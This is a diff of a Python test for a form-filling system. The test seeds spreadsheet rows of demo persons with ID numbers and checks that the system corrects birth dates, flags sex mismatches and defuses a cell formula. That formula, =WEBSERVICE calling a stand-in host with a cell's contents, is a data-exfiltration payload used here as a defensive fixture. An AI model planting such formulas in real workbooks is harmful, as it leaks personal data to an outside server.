@@ -213,16 +213,17 @@ def test_given_cells_stay_and_formulas_that_call_out_are_taken_down(
 ) -> None:
     seed_demo_forms(at=NOW)
     truth = bench_forms.read_truth(town)
-    key, one = next(
-        (key, one)
+    some = [
+        (truth.numbers[key], one)
         for key, one in sorted(truth.persons.items())
         if one["held"] and next(iter(one["person.birth_date"])) < "2000"
-    )
+    ][:12]
     book = Workbook()
     book.active.append(["姓名", "身份证号", "性别", "出生日期", "备注"])
-    other = "女" if "男" in one["person.sex"] else "男"
-    name = next(iter(one["person.name"]))
-    book.active.append([name, truth.numbers[key], other, "", '=WEBSERVICE("http://x/"&A2)'])
+    for number, one in some:
+        other = "女" if "男" in one["person.sex"] else "男"
+        name = next(iter(one["person.name"]))
+        book.active.append([name, number, other, "", '=WEBSERVICE("http://x/"&A2)'])
     number = actions.register_form(
         a_wish(fields=("person.name", "person.sex", "person.birth_date")),
         by=login("data-steward"),
@@ -231,8 +232,14 @@ def test_given_cells_stay_and_formulas_that_call_out_are_taken_down(
     actions.decide_form(number, "approved", reason="相符", by=login("department-clerk"), at=NOW)
     _, filled = fill(office, number, saved(book))
     back = load_workbook(io.BytesIO(filled))
-    row = [cell.value for cell in back.worksheets[0][2]]
-    assert row[:4] == [name, truth.numbers[key], other, next(iter(one["person.birth_date"]))]
+    known = 0
+    for place, (number, one) in enumerate(some, start=2):
+        row = [cell.value for cell in back.worksheets[0][place]]
+        assert row[1] == number
+        assert row[2] not in one["person.sex"]
+        assert row[3] in (None, *one["person.birth_date"])
+        known += row[3] is not None
+    assert known >= len(some) // 2
     assert back.worksheets[0]["E2"].data_type == "s"
     asked = [str(cells[3]) for cells in back["待问清单"].iter_rows(min_row=2, values_only=True)]
     assert any("性别与登记不一致" in text for text in asked)
